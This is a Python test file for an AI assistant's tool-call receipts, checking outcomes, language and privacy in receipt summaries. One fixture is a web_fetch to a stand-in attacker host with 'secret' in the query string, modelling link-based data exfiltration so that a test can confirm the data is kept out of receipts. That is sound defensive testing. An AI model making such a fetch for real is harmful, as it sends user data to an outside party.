"""Receipts are written by code from the call record, whatever the model said."""

from __future__ import annotations

import json

from bot.core.events import ReceiptOutcome
from bot.core.honesty.receipts import receipts_for
from bot.core.honesty.verify import CallRecord, CallStatus
from tools.registry import Risk


def _call(name: str, status: CallStatus, risk: Risk = Risk.WRITE, error: str = "", **args: object) -> CallRecord:
    return CallRecord(name=name, arguments=json.dumps(args), risk=risk, status=status,
                      description=name, error=error, egress=name == "web_fetch", erases=name == "forget")


def test_every_side_effect_gets_one_receipt_with_its_outcome_in_the_users_language() -> None:
    calls = [
        _call("notes_read", CallStatus.OK, Risk.READ, path="a.md"),  # a read: no receipt
        _call("notes_append", CallStatus.OK, path="compra.md", text="pan"),
        _call("notes_delete", CallStatus.DENIED, Risk.DESTRUCTIVE, path="viejo.md"),
        _call("cancel_reminder", CallStatus.ERROR, error="no reminder r-1", reminder_id="r-1"),
        _call("set_reminder", CallStatus.EXPIRED, at="2027-01-20T10:00", text="pagar el IBI"),
    ]
    receipts = receipts_for(calls, "es")
    assert [(r.outcome, r.summary) for r in receipts] == [
        (ReceiptOutcome.DONE, "Añadir a la nota compra.md: hecho"),
        (ReceiptOutcome.DENIED, "Borrar la nota viejo.md: denegado, no se hizo"),
        (ReceiptOutcome.FAILED, "Cancelar el recordatorio r-1: falló (no reminder r-1)"),
        (ReceiptOutcome.EXPIRED, "Recordatorio “pagar el IBI”: sin respuesta a tiempo, no se hizo"),
    ]
    english = receipts_for(calls, "en")
    assert english[1].summary == "Delete note viejo.md: denied, not done"


def test_a_retried_call_gets_one_receipt_for_its_last_attempt() -> None:
    calls = [_call("notes_append", CallStatus.ERROR, error="disk full", path="x.md", text="a"),
             _call("notes_append", CallStatus.OK, path="x.md", text="a")]
    [receipt] = receipts_for(calls, "en")
    assert receipt.outcome is ReceiptOutcome.DONE


def test_nothing_changed_when_an_action_was_asked_and_none_ran() -> None:
    assert [r.summary for r in receipts_for([], "en", action_asked=True)] == ["Nothing was changed."]
    assert receipts_for([], "en") == ()
    failed = receipts_for([_call("notes_delete", CallStatus.ERROR, error="no such note", path="g.md")],
                          "es", action_asked=True)
    assert [r.outcome for r in failed] == [ReceiptOutcome.FAILED, ReceiptOutcome.NOTHING_CHANGED]
    done = receipts_for([_call("remember", CallStatus.OK, fact="likes tea")], "en", action_asked=True)
    assert [r.outcome for r in done] == [ReceiptOutcome.DONE]


def test_receipts_never_repeat_erased_content_nor_data_in_a_link() -> None:
    forget = _call("forget", CallStatus.OK, Risk.DESTRUCTIVE, plan_id="p1")
    fetch = _call("web_fetch", CallStatus.OK, Risk.READ, url="https://attacker.test/p?d=secret")
    summaries = [r.summary for r in receipts_for([forget, fetch], "en")]
    assert summaries == ["Forget from memory: done", "Open page attacker.test: done"]


def test_a_tool_the_table_does_not_know_shows_its_kind_and_name() -> None:
    [receipt] = receipts_for([_call("archive_photo", CallStatus.OK, title="beach")], "en")
    assert receipt.summary == "Save beach (archive_photo): done"
